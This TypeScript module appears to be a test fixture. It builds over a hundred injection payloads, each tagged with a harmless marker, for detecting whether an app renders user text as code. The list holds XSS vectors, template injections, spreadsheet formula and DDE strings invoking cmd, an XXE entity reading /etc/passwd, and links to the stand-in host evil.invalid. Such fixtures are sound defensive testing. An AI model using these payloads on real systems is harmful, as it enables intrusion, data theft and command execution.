/** What is tried on a page and on every file: each calls `hit` with its number if anything ever takes it for more than text. */
type Payload = (hit: string, mark: string) => string;

const html: readonly Payload[] = [
  (hit) => `<script>${hit}</script>`,
  (hit) => `<SCRIPT SRC="data:text/javascript,${hit}"></SCRIPT>`,
  (hit) => `<img src=x onerror=${hit}>`,
  (hit) => `<img src="x" onerror="${hit}" title="x">`,
  (hit) => `<IMG SRC=x OnErRoR='${hit}'>`,
  (hit) => `<body onload=${hit}>`,
  (hit) => `<input autofocus onfocus=${hit}>`,
  (hit) => `<select autofocus onfocus=${hit}><option>x`,
  (hit) => `<textarea autofocus onfocus=${hit}>`,
  (hit) => `<details open ontoggle=${hit}><summary>x`,
  (hit) => `<video><source onerror=${hit}></video>`,
  (hit) => `<audio src=x onerror=${hit}>`,
  (hit) => `<marquee onstart=${hit}>x</marquee>`,
  (hit) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  (hit) => `<iframe src="javascript:parent.${hit}"></iframe>`,
  (hit) => `<object data="javascript:${hit}"></object>`,
  (hit) => `<embed src="javascript:${hit}">`,
  (hit) => `<a href="javascript:${hit}">x</a>`,
  (hit) => `<form action="javascript:${hit}"><button autofocus>x</button></form>`,
  (hit) => `<button formaction="javascript:${hit}">x</button>`,
  (hit) => `<meta http-equiv="refresh" content="0;url=javascript:${hit}">`,
  (hit) => `<base href="https://evil.invalid/"><i title="${hit}">`,
  (hit) => `<link rel=stylesheet href="data:text/css,*{color:red}" onload=${hit}>`,
  (hit) => `<style>@import "https://evil.invalid/${hit}";</style>`,
  (hit) => `<template shadowrootmode="open"><img src=x onerror=${hit}></template>`,
  (hit) => `<dialog open><img src=x onerror=${hit}></dialog>`,
  (hit) => `<div style="background:url(javascript:${hit})">x</div>`,
  (hit) => `<div onpointerover="${hit}" style="position:fixed;inset:0">x</div>`,
  (hit) => `<isindex type=image src=x onerror=${hit}>`,
  (hit) => `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  (hit) => `<!--><img src=x onerror=${hit}>-->`,
  (hit) => `<![CDATA[><img src=x onerror=${hit}>]]>`,
  (hit) => `<x onclick=${hit} tabindex=1 autofocus>x</x>`,
];

const breakers: readonly Payload[] = [
  (hit) => `"><img src=x onerror=${hit}>`,
  (hit) => `'><img src=x onerror=${hit}>`,
  (hit) => `" autofocus onfocus="${hit}`,
  (hit) => `' onmouseover='${hit}`,
  (hit) => `\`onerror=${hit}\``,
  (hit) => `</title><script>${hit}</script>`,
  (hit) => `</textarea><script>${hit}</script>`,
  (hit) => `</script><script>${hit}</script>`,
  (hit) => `</style><script>${hit}</script>`,
  (hit) => `--!><script>${hit}</script>`,
  (hit) => `\\";${hit};//`,
  (hit) => `';${hit};'`,
  (hit) => `&lt;img src=x onerror=${hit}&gt;`,
  (hit) => `&#60;img src=x onerror=${hit}&#62;`,
  (hit) => `%3Cimg%20src=x%20onerror=${hit}%3E`,
  (hit) => `\\u003cimg src=x onerror=${hit}\\u003e`,
  (hit) => `＜img src=x onerror=${hit}＞`,
];

const drawings: readonly Payload[] = [
  (hit) => `<svg onload=${hit}>`,
  (hit) => `<svg><script>${hit}</script></svg>`,
  (hit) => `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  (hit) => `<svg><a xlink:href="javascript:${hit}"><text y=20>x</text></a></svg>`,
  (hit) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${hit}'/>#x"/></svg>`,
  (hit) => `<svg><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
  (hit) => `<svg><style>*{background:url("//evil.invalid/${hit}")}</style></svg>`,
  (hit) => `<math><mtext><img src=x onerror=${hit}></mtext></math>`,
  (hit) => `</svg><script>${hit}</script>`,
  (hit) => `</text><script>${hit}</script>`,
];

const links: readonly Payload[] = [
  (hit) => `javascript:${hit}`,
  (hit) => `java\tscript:${hit}`,
  (hit) => `data:text/html,<script>${hit}</script>`,
  (hit) => `vbscript:${hit}`,
  (hit) => `[x](javascript:${hit})`,
  (hit) => `![x](x"onerror="${hit})`,
  (hit) => `<javascript:${hit}>`,
  (hit) => `[x]: javascript:${hit}`,
  (_hit, mark) => `https://evil.invalid/?${mark}`,
  (_hit, mark) => `\\\\evil.invalid\\share\\${mark}`,
  (_hit, mark) => `file:///etc/passwd#${mark}`,
  (_hit, mark) => `mailto:x@evil.invalid?subject=${mark}`,
];

const templates: readonly Payload[] = [
  (hit) => `{{constructor.constructor('${hit}')()}}`,
  (_hit, mark) => `{{name}} {{count}} ${mark}`,
  (_hit, mark) => `$t(common.save) ${mark}`,
  (hit) => `\${${hit}}`,
  (hit) => `<%= ${hit} %>`,
  (hit) => `#{${hit}}`,
  (_hit, mark) => `__proto__ constructor ${mark}`,
  (_hit, mark) => `%s %d %n ${mark}`,
  (_hit, mark) => `$& $1 $\` ${mark}`,
];

const cells: readonly Payload[] = [
  (_hit, mark) => `=HYPERLINK("http://evil.invalid/${mark}","x")`,
  (_hit, mark) => `+cmd|' /C calc ${mark}'!A0`,
  (_hit, mark) => `-2+3+cmd|'${mark}'!A0`,
  (_hit, mark) => `@SUM(1+1)*cmd|'${mark}'!A0`,
  (_hit, mark) => `=WEBSERVICE("http://evil.invalid/${mark}")`,
  (_hit, mark) => `＝1＋1 ${mark}`,
  (_hit, mark) => `x","=1+1","${mark}`,
  (_hit, mark) => `{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ${mark}" }`,
];

const markup: readonly Payload[] = [
  (_hit, mark) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; ${mark}`,
  (_hit, mark) => `&lol9; &amp;amp; &#x0; ${mark}`,
  (_hit, mark) => `]]><x>${mark}</x>`,
  (_hit, mark) => `<w:fldSimple w:instr="DDEAUTO ${mark}"/>`,
  (_hit, mark) => `</a:t></a:r><a:hlinkClick r:id="rId1"/>${mark}`,
  (_hit, mark) => `<?xml-stylesheet href="http://evil.invalid/${mark}"?>`,
  (_hit, mark) => `) Tj /JS (${mark}) /OpenAction <<`,
  (_hit, mark) => `_x003D_1+1 ${mark}`,
  (_hit, mark) => `Ana \u202ecod.${mark}\u202c \u2066x\u2069`,
  (_hit, mark) => `zero\u200b\u200dwidth \ufeff${mark}`,
  (_hit, mark) => `Z\u0351\u036b\u0343\u036a\u0302a\u0321\u030alg\u0321\u031e ${mark}`,
];

/** A hundred and more texts, each with a mark of its own: what `hit` is called with, or what stands in it. */
export const payloads: readonly string[] = [html, breakers, drawings, links, templates, cells, markup]
  .flat()
  .map((payload, index) => payload(`hit(${index})`, `mk${index}`));

/** The mark of a payload, as {@link payloads} carries it. */
export const markOf = (index: number): RegExp => new RegExp(`hit\\(${index}\\)|mk${index}(?!\\d)`);
